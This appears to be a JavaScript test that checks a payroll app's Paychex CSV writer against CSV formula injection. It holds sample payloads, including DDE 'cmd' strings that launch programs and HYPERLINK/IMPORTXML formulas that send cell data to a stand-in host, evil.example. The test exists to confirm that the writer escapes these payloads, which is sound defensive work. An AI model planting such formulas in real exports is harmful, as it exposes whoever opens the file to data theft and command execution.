import { createRequire } from 'node:module'
import { resolve } from 'node:path'
import { none, noted } from '../rows.mjs'

const title = 'CSV injection in the payroll file'
const what =
  'Names and numbers that a spreadsheet would run as formulas, through the code that writes the Paychex file. No cell may start like a formula, and the file must read back cell for cell.'

const fromOffice = createRequire(new URL('../../apps/office/package.json', import.meta.url))
/** CSV injection: characters that start a formula, full-width forms too; the last ones are whitespace that spreadsheets skip. */
const BEGINNINGS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=']
const FORMULAS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1,"pay")',
  'SUM(1+1)*cmd|"/C calc"!A0',
  'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
  '1,2\r\n=3",=4',
]
const RUNS = /^[=+\-@＝＋－＠\p{Cc}]/u

async function prove() {
  const paychexCsv = await writer()
  const payloads = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula))
  const csv = paychexCsv(payloads.map(entryWith), 'America/New_York')
  const { data } = fromOffice('papaparse').parse(csv, { newline: '\r\n' })
  const lines = data.slice(1)
  // One line per record: a line break is a space.
  const changed = payloads
    .map((payload) => `'${payload.replaceAll(/[\r\n]+/g, ' ')}`)
    .filter((cell, nth) => lines[nth]?.[4] !== `${cell} Marrow` || lines[nth]?.[5] !== cell)
  return [
    noted('payloads', payloads.length),
    none('extra or missing lines', Math.abs(lines.length - payloads.length)),
    none('cells that would run as formulas', lines.flat().filter((cell) => RUNS.test(cell)).length),
    none('payloads that were not escaped correctly', changed.length),
  ]
}

/** The CSV writer of the product, from its source. */
async function writer() {
  const { createServer } = await import(fromOffice.resolve('vite'))
  const vite = await createServer({
    root: resolve('packages/shared'),
    server: { middlewareMode: true, watch: null, ws: false },
    optimizeDeps: { noDiscovery: true },
    appType: 'custom',
    logLevel: 'error',
  })
  try {
    const { paychexCsv } = await vite.ssrLoadModule('/src/payroll/paychex-csv.ts')
    return paychexCsv
  } finally {
    await vite.close()
  }
}

const entryWith = (payload, id) => ({
  id,
  startTime: '2024-10-04T21:00:00.000Z',
  endTime: '2024-10-05T05:00:00.000Z',
  payrate: 15.5,
  cashTips: 0,
  creditTips: 0,
  deduction: 0,
  user: { firstName: payload, lastName: 'Marrow', paychexId: payload },
})

export const csv = { title, what, apart: true, prove }
